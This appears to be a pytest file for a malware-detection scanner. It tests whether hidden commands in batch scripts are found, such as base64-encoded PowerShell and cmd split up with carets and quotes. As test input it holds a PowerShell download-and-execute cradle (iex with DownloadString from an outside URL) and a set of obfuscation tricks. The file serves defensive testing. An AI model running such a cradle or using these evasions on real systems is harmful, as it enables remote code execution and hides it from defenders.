"""What scripts hide is read, and their bytes are noticed; base64 in tests/agent/sources."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.engine.scanner import PatternScanner
from agent.indicators import Content
from agent.matching.byte_rules import ByteRules
from agent.matching.hidden_commands import BROKEN_WORDS, HiddenScan, hidden_in_script, readings
from tests.evidence.packs import stated

COMMAND = "iex (New-Object Net.WebClient).DownloadString('https://pandorasong.com/x')"


def encoded(command: str = COMMAND) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def content(text: str) -> Content:
    return Content(id=text.lower(), value=text, **stated())


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16"])
@pytest.mark.parametrize(
    "line",
    [f"powershell -enc {encoded()}", "c^m^d", 'cm"d', 'c"m"d', 'cm""d', "'cm'+'d'", '"cm"+"d"'],
)
def test_the_bytes_of_a_script_that_hides_something_are_noticed(line: str, encoding: str) -> None:
    text = f"@echo off\r\n{line}\r\n"
    hidden = hidden_in_script(text.encode(encoding))
    assert [one.text.encode() for one in readings(text)[1:]] == hidden
    scan = HiddenScan(ByteRules([content("cmd"), content("DownloadString")]))
    assert len(scan.scan(text.encode(encoding))) == 1


def test_what_stands_in_the_clear_hides_nothing() -> None:
    for text in ("echo cmd", 'set x="cmd"', "a, 'b' + c", ""):
        assert [one.text for one in readings(text)] == [text]


@pytest.mark.parametrize(
    ("text", "is_broken"),
    [('to "evil". Then', False), ('to "evil".', False), ('to evil".dat', True), ('ev"il', True)],
)
def test_a_dot_behind_a_quote_breaks_a_word_only_if_it_goes_on(text: str, is_broken: bool) -> None:
    scanner = PatternScanner({"broken": [f"/{broken}/" for broken in BROKEN_WORDS]})
    assert bool(scanner.scan(text.encode("utf-16-le"))) == is_broken


@settings(max_examples=50, deadline=None)
@given(st.text(alphabet="aZ9.\"'+^`- ", max_size=40))
def test_broken_words_are_where_another_engine_has_them(text: str) -> None:
    data = text.encode("utf-16-le")
    scanner = PatternScanner({broken: [f"/{broken}/"] for broken in BROKEN_WORDS})
    found = {one.name: [at for at, _ in one.places] for one in scanner.scan(data)}
    expected = {
        broken: [at.start() for at in re.finditer(f"(?={broken})".encode(), data)]
        for broken in BROKEN_WORDS
    }
    assert found == {broken: places for broken, places in expected.items() if places}


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300) | st.text(alphabet="ae^\"'+- `\n", max_size=80).map(str.encode))
def test_any_script_ends_in_texts(data: bytes) -> None:
    assert all(isinstance(text, bytes) for text in hidden_in_script(data))
